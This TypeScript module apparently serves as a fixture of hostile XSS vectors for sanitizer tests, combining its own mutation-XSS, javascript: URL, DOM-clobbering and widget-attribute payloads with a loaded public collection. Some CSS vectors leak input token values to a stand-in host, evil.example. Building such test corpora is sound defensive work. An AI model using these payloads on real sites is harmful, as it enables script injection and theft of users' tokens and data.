import { readFileSync } from "node:fs";
import { collectionOf } from "../collections";

const vectors = collectionOf("xss/vectors.jsonl");

/** Beside the public collections: tricks with namespaces, parsers, addresses, styles and names. */
const ownVectors = [
  "<svg><style><img src=x onerror=alert(1)></style></svg>",
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=alert(1)&gt;">',
  "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  "<template><script>alert(1)</script><img src=x onerror=alert(1)></template>",
  "<svg><foreignObject><iframe srcdoc='<script>parent.alert(1)</script>'></foreignObject></svg>",
  "<svg><animate xlink:href=#x attributeName=href values=javascript:alert(1) /><a id=x><text y=20>X</text></a></svg>",
  "<svg><set attributeName=onmouseover to=alert(1) /></svg>",
  '<a href="jav&#x09;ascript:alert(1)">x</a><a href="&#14; javascript:alert(1)">x</a><a href="JaVaScRiPt&colon;alert(1)">x</a>',
  "<a href=\"\\u0001javascript:alert(1)\">x</a><a href='data:text/html,<script>alert(1)</script>'>x</a><a href=vbscript:msgbox(1)>x</a>",
  "<style>@import 'http://evil.example/x.css';body{background:url(http://evil.example/a.png)}</style>",
  "<style>a{background:\\75rl(http://evil.example/b.png)}b{background:image-set('http://evil.example/c.png' 1x)}</style>",
  "<p style=\"background:url('http://evil.example/d.png');width:expression(alert(1));behavior:url(x.htc)\">x</p>",
  "<style>@font-face{font-family:x;src:url(http://evil.example/f.woff2)}*{font-family:x}</style>",
  "<style>:root{--u:url(http://evil.example/v.png)}body{background:var(--u)}</style>",
  "<style>input[value^='a']{background:url(http://evil.example/a)}input[name=token][value$='b']~*{background:url(//evil.example/b)}</style><input value=abc>",
  "<style></style><style>a::before{content:'</style><img src=x onerror=alert(1)>'}</style>",
  "<style>a{}</style/><img src=x onerror=alert(1)>{}</style >",
  "<input name=attributes><input name=innerHTML><form id=f><input name=submit><input name=action><input id=parentNode></form>",
  "<img name=cookie src=x><form name=body></form><form id=document><input name=currentScript></form><a id=foyer-consent>",
  "<meta http-equiv=refresh content='0;url=javascript:alert(1)'><base href='http://evil.example/'><link rel=stylesheet href='http://evil.example/l.css'>",
  "<object data='data:text/html,<script>alert(1)</script>'></object><embed src='javascript:alert(1)'><applet code=x>",
  "<video src=x onerror=alert(1)><source src=x onerror=alert(1)></video><audio src=http://evil.example/a.mp3 autoplay>",
  "<img src=http://evil.example/i.png srcset='http://evil.example/j.png 2x'><picture><source srcset=http://evil.example/k.png><img src=x></picture>",
  "<details open ontoggle=alert(1)><summary>x</summary></details><input autofocus onfocus=alert(1)><marquee onstart=alert(1)>",
  "<div popover id=p onbeforetoggle=alert(1)>x</div><button popovertarget=p>x</button><p contenteditable onpaste=alert(1) autofocus tabindex=0 onfocus=alert(1)>x</p>",
  '<xmp><p title="</xmp><svg/onload=alert(1)>"><plaintext><script>alert(1)</script>',
  "<select><noembed></select><script x='a@b'a>alert(1)</script>",
  '<svg><use href="data:image/svg+xml;base64,PHN2ZyBpZD0ieCI+PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pjwvc3ZnPg==#x"/></svg>',
  "<svg><image href=http://evil.example/s.png /><filter id=f><feImage href=http://evil.example/t.png /></filter><rect filter=url(#f) fill=url(http://evil.example/u) /></svg>",
  "<iframe src=javascript:alert(1)></iframe><frameset onload=alert(1)><portal src=http://evil.example>",
  "<a href=x ping=http://evil.example/ping download>x</a><form action=javascript:alert(1)><button formaction=javascript:alert(1)>x</button></form>",
  "<script type=module>alert(1)</script><script>alert(1)//<!--<script>--></script><!--><img src=x onerror=alert(1)>-->",
  "<table><td background=http://evil.example/td.png><body background=http://evil.example/bd.png onload=alert(1)>",
  "<a data-widget=video href=https://evil.example/v data-embed=javascript:alert(1)>x</a><a data-embed='data:text/html,<script>alert(1)</script>' href=x>x</a>",
  "<div data-widget=popup data-trigger=time data-after=0 id='x\" onload=alert(1)'><img src=x onerror=alert(1)></div>",
  "<time data-widget=countdown datetime='2030-01-01T00:00\"><img src=x onerror=alert(1)>' data-zone='<script>alert(1)</script>'>x</time>",
  "<a data-share=email href=javascript:alert(1)>x</a><a data-share=__proto__ href=javascript:alert(1)>x</a><a data-share=constructor href=x>x</a>",
  "<span data-url-text='name' data-url-max='9\"><img src=x onerror=alert(1)>'>hello</span>",
  "<div data-gjs-type=script data-gjs-script='alert(1)' data-gjs-content='<img src=x onerror=alert(1)>'>x</div>",
];

export const hasCollections = vectors.isHere;

export const hostileVectors: readonly string[] = [
  ...ownVectors,
  ...(hasCollections
    ? readFileSync(vectors.at, "utf8")
        .split("\n")
        .filter(Boolean)
        .map((line) => String((JSON.parse(line) as { payload: string }).payload))
    : []),
];
